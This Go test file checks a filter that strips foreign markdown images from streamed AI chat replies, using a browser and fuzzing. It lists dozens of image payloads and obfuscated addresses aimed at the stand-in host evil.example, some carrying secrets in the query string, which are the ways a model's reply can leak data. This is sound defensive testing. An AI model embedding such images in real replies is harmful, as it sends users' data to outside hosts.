package run_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"parley/shared/agent"
	"parley/shared/agent/agenttest"
	"parley/shared/browsertest"
	"parley/shared/parley"
	"parley/shared/run"
)

// withoutImages is what is left of a reply that comes in these deltas.
func withoutImages(t testing.TB, deltas ...string) string {
	t.Helper()
	var b strings.Builder
	f := run.NewImageFilter(func(host string) bool { return host == "shop.example" || host == "azAZ-09.shop.example" }, func(delta string) error {
		if delta == "" {
			t.Error("emitted an empty delta")
		}
		b.WriteString(delta)
		return nil
	})
	for _, delta := range deltas {
		if err := f.Write(delta); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestImageFilter(t *testing.T) {
	for text, want := range map[string]string{
		"plain! [a](https://x.example/) [b]: c, vec![1, 2], a![0]": "plain! [a](https://x.example/) [b]: c, vec![1, 2], a![0]",
		"![a](https://x.example/i.png)":                            "[a](https://x.example/i.png)",
		"see ![a](https://x.example/i?q=secret \"t\") now":         "see [a](https://x.example/i?q=secret \"t\") now",
		"![](//x.example/i)":                                       "[](//x.example/i)",
		"![a](https://shop.example/i.png)":                         "![a](https://shop.example/i.png)",
		"![a](HTTPS://shop.example:8090/i.png)":                    "![a](HTTPS://shop.example:8090/i.png)",
		`![a](i.png "a: b")`:                                       `![a](i.png "a: b")`,
		"![a](https://shop.example 't')":                           "![a](https://shop.example 't')",
		"![a](https://azAZ-09.shop.example/i.png)":                 "![a](https://azAZ-09.shop.example/i.png)",
		"![a](\xc2":                                              "[a](\xc2",
		"![a](/~ann/i.png) ![b](~ann/i.png)":                     "![a](/~ann/i.png) ![b](~ann/i.png)",
		"![a](https://shop.example.evil.example/)":               "[a](https://shop.example.evil.example/)",
		"![a](https://shop.example@evil.example/)":               "[a](https://shop.example@evil.example/)",
		"![a](/files/1/2/i.png)":                                 "![a](/files/1/2/i.png)",
		"![a](i.png) ![b](../i.png) ![c](#d)":                    "![a](i.png) ![b](../i.png) ![c](#d)",
		"![a](data:image/png;base64,AA)":                         "[a](data:image/png;base64,AA)",
		"![a](< https://x.example/>)":                            "[a](< https://x.example/>)",
		"![a](</\t/x.example/>)":                                 "[a](</\t/x.example/>)",
		"![a](<htt\tps://x.example/>)":                           "[a](<htt\tps://x.example/>)",
		"![a](\nhttps://x.example/)":                             "[a](\nhttps://x.example/)",
		"!![a](https://x.example/)":                              "! [a](https://x.example/)",
		`\![a](https://x.example/)`:                              `\ [a](https://x.example/)`,
		"[![a](https://x.example/i)](https://shop.example/)":     "[[a](https://x.example/i)](https://shop.example/)",
		"![![a](https://x.example/i)](https://y.example/)":       `![[a]\(https://x.example/i)]\(https://y.example/)`,
		"![a`]`](https://x.example/)":                            "![a`]`]\\(https://x.example/)",
		"![a\nb](https://x.example/)\n\n[c](https://x.example/)": "![a\nb]\\(https://x.example/)\n\n[c](https://x.example/)",
		"![a][b]\n\n[b]: https://x.example/i":                    "![a][b]\n\n[b]\\: https://x.example/i",
		"![b]\n\n> [b]:\n> <https://x.example/i>":                "![b]\n\n> [b]\\:\n> <https://x.example/i>",
		"[b]: https://shop.example/i\n[c]: /i\n":                 "[b]: https://shop.example/i\n[c]: /i\n",
		"![a](https://x.example":                                 "[a](https://x.example",
		"![a](htt":                                               "![a](htt",
		"ends in !":                                              "ends in !",
		"ends in ]":                                              "ends in ]",
		"ends in ![":                                             "ends in ![",

		// Of an address so far behind nothing is looked at, also where it comes at once.
		"![a](" + strings.Repeat(" ", 299) + "https://shop.example/i)": "[a](" + strings.Repeat(" ", 299) + "https://shop.example/i)",
	} {
		if got := withoutImages(t, text); got != want {
			t.Errorf("filter(%q) = %q, want %q", text, got, want)
		}
		for at := range len(text) {
			if got := withoutImages(t, text[:at], text[at:]); got != want {
				t.Errorf("filter(%q, %q) = %q, want %q", text[:at], text[at:], got, want)
			}
		}
	}
}

// TestImageFilterHoldsLittle: of a text that goes on only what may still become a foreign
// image is held back.
func TestImageFilterHoldsLittle(t *testing.T) {
	for text, want := range map[string]string{
		"plain":                            "plain",
		"plain!":                           "plain",
		"plain! ":                          "plain! ",
		"a [b]":                            "a [b",
		"a [b] ":                           "a [b] ",
		"![":                               "",
		"![a":                              "",
		"![a]":                             "",
		"![a] b":                           "![a] b",
		"![a](":                            "",
		"![a](/":                           "",
		"![a](/i":                          "![a](/i",
		"![a](i":                           "",
		"![a](i/":                          "![a](i/",
		"![a](i.png)":                      "![a](i.png)",
		"![a](htt":                         "",
		"![a](https://x.example":           "",
		"![a](https://x.example/":          "[a](https://x.example/",
		"![a](https://shop.example":        "",
		"![a](https://shop.example:80":     "",
		"![a](https://shop.example:80/":    "![a](https://shop.example:80/",
		"![a](\u00a0":                      "",
		"![a](\xc2":                        "",
		"![](https://x.example/":           "[](https://x.example/",
		"![a](data:":                       "[a](data:",
		"[b]:":                             "[b",
		"[b]: /i":                          "[b]: /i",
		"[b]: https://x.example/":          "[b]\\: https://x.example/",
		"![" + strings.Repeat("a", 299):    "",
		"![" + strings.Repeat("a", 300):    "![" + strings.Repeat("a", 300),
		"![a](" + strings.Repeat(" ", 300): "",
		"![a](" + strings.Repeat(" ", 301): "[a](" + strings.Repeat(" ", 301),
		"![a](" + strings.Repeat(" ", 299) + "ü":                    "[a](" + strings.Repeat(" ", 299) + "ü",
		"![a](https://" + strings.Repeat("x", 292):                  "",
		"![a](https://" + strings.Repeat("x", 293):                  "[a](https://" + strings.Repeat("x", 293),
		"![a](" + strings.Repeat(" ", 280) + "https://shop.example": "",
	} {
		var b strings.Builder
		f := run.NewImageFilter(func(host string) bool { return host == "shop.example" }, func(delta string) error {
			b.WriteString(delta)
			return nil
		})
		if err := f.Write(text); err != nil || b.String() != want {
			t.Errorf("of %q so far %q is passed on, %v, want %q", text, b.String(), err, want)
		}
	}
}

// TestImageFilterStops: the error of who takes the text is what who gives it is told.
func TestImageFilterStops(t *testing.T) {
	f := run.NewImageFilter(func(string) bool { return false }, func(string) error { return errGone })
	if err := f.Write("![a]("); err != nil {
		t.Errorf("Write of what is held = %v", err)
	}
	if err := f.Close(); err != errGone {
		t.Errorf("Close = %v, want %v", err, errGone)
	}
	if err := f.Write("text"); err != errGone {
		t.Errorf("Write = %v, want %v", err, errGone)
	}
}

// imagePayloads would each load an image of evil.example in some reader, "%s" being
// its address.
var imagePayloads = []string{
	"![a](%s)", "![](%s)", "!![a](%s)", "![a](<%s>)", "![a](< %s >)", "![a]( %s 'title')", "![a](\n%s\n)", "![a\nb](%s)", "![a`]`b](%s)", "![a\\]b](%s)",
	"![![a](%s)](%[1]s)", "[![a](%s)](/x)", "![a[b]c](%s)", "![a [b](/c) d](%s)", "![a <b ]>](%s)", "![a](x)![b](%s)", "![a](x ![b](%s))", "[a](b ![c](%s))",
	"![a][b]\n\n[b]: %s", "![b][]\n\n[b]: <%s>", "![b]\n\n[b]:\n%s", "[b]: %s\n\n![b]", "![a][b]\n\n> [b]: %s", "![a][b]\n\n- [b]: %s", "![a][b c]\n\n[b\nc]: %s",
	"![a][b]\n\n[b]: %s 'title'", "![a][b] [b]: %s", "# ![a](%s)", "|a|\n|-|\n|![a](%s)|\n", "- ![a](%s)", "> ![a](%s)", "**![a](%s)**", "```\n![a](x)\n```\n![a](%s)",
	"\\\\![a](%s)", "\\![a](%s)", "&#33;[a](%s)", "a![b", "![[a](%s)](%[1]s)", "![a](/x)(%s)", "![a] (%s)", "![a](%s", "!\\[a](%s)", "![a]\\(%s)",
	"![" + strings.Repeat("long ", 100) + "](%s)", "![a](" + strings.Repeat(" ", 400) + "%s)", "![a][b]\n\n[b]:" + strings.Repeat(" ", 400) + "%s",
}

// imageAddresses are addresses of evil.example, for some browser.
var imageAddresses = []string{
	"https://evil.example/i", "HTTP://evil.example/i", "//evil.example/i", `/\evil.example/i`, `\\evil.example/i`, `https:\\evil.example/i`, "https:evil.example/i",
	"https://shop.example@evil.example/i", "https://shop.example.evil.example/i", "https://shop.example:80@evil.example/i", `https://shop.example\@evil.example/i`,
	"&#104;ttps://evil.example/i", "https&colon;//evil.example/i", `https\://evil.example/i`, "\x01https://evil.example/i", "/\t/evil.example/i", "htt\tps://evil.example/i",
	"&sol;&sol;evil.example/i", "\\/\\/evil.example/i", "/&#47;evil.example/i", "\u00a0//evil.example/i", "https://evil.example",
}

// TestNoForeignImageLoads: a browser that renders what is left of such replies asks
// no foreign host for an image.
func TestNoForeignImageLoads(t *testing.T) {
	files := http.FileServer(http.Dir(filepath.Join("..", "web", "files", "vendor", "marked")))
	mux := http.NewServeMux()
	mux.Handle("/marked/", http.StripPrefix("/marked/", files))
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, imagePage) })
	server := httptest.NewServer(mux)
	defer server.Close()
	ctx := browsertest.New(t)
	if _, err := chromedp.Run(ctx, chromedp.Navigate(server.URL)); err != nil {
		t.Fatal(err)
	}
	var raw, left []string
	for _, payload := range imagePayloads {
		for _, address := range imageAddresses {
			text := payload
			if strings.Contains(payload, "%") {
				text = fmt.Sprintf(payload, address)
			}
			raw, left = append(raw, text), append(left, withoutImages(t, text))
		}
	}
	foreign := func(texts []string) []string {
		b, err := json.Marshal(texts)
		if err != nil {
			t.Fatal(err)
		}
		found, err := chromedp.Run(ctx, chromedp.Evaluate[[]string]("foreign("+string(b)+")"))
		if err != nil {
			t.Fatal(err)
		}
		return found
	}
	if found := foreign(raw); len(found) < len(raw)/3 {
		t.Errorf("the page finds an image in %d of %d texts only", len(found), len(raw))
	}
	for _, text := range foreign(left) {
		t.Errorf("%q loads a foreign image", text)
	}
}

const imagePage = `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><body><script type="module">
import { marked } from "/marked/marked.esm.js";
window.foreign = (texts) => texts.filter((text) =>
  [...new DOMParser().parseFromString(marked.parse(text, { gfm: true, async: false }), "text/html").images].some((image) => {
    const url = new URL(image.getAttribute("src"), "https://shop.example/page");
    return url.protocol !== "https:" || url.host !== "shop.example";
  }));
</script>`

// FuzzImageFilter: the result does not depend on how a text is cut, and of what is
// left nothing more is taken.
func FuzzImageFilter(f *testing.F) {
	for i, payload := range imagePayloads {
		f.Add(strings.ReplaceAll(payload, "%s", imageAddresses[i%len(imageAddresses)]), []byte{3, 1, 7})
	}
	f.Add("![a](\u00a0\u2003https://evil.example/", []byte{6, 1, 1})
	f.Fuzz(func(t *testing.T, text string, cuts []byte) {
		want := withoutImages(t, text)
		var deltas []string
		rest := text
		for _, n := range cuts {
			n := min(int(n), len(rest))
			deltas, rest = append(deltas, rest[:n]), rest[n:]
		}
		if got := withoutImages(t, append(deltas, rest)...); got != want {
			t.Errorf("filter%q = %q, want %q as for one delta", deltas, got, want)
		}
		if again := withoutImages(t, want); again != want {
			t.Errorf("filter(%q) = %q, and of that %q", text, want, again)
		}
	})
}

// TestRepliesShowNoForeignImage: what is stored of a reply is what was streamed, and
// the same whether its text or its end comes last.
func TestRepliesShowNoForeignImage(t *testing.T) {
	inShop(t, func(s *shop) {
		for text, want := range map[string]string{
			"See ![a](https://evil.example/?q=secret).": "See [a](https://evil.example/?q=secret).",
			"See ![a](https://evil.exam":                "See [a](https://evil.exam",
			"See ![a](/files/1/2/a.png)!":               "See ![a](/files/1/2/a.png)!",
		} {
			s.says[text] = agenttest.Say(strings.SplitAfter(text, "")...)
			got := s.ask(s.engine, question(text, ""))
			if got.err != nil || got.text != want || got.end.Entry.Text != want {
				s.Errorf("%q: streamed %q, stored %q, %v", text, got.text, got.end.Entry.Text, got.err)
			}
		}
		// A reply that breaks off keeps what it has said.
		s.says["cut"] = []agenttest.Step{{Delta: "Look!"}, {Err: agent.ErrCut}}
		if got := s.ask(s.engine, question("cut", "")); got.err != nil || got.end.Entry.Text != "Look!" || got.end.Status != parley.StatusIncomplete {
			s.Errorf("cut: %+v, %+v", got, got.end)
		}
	})
}
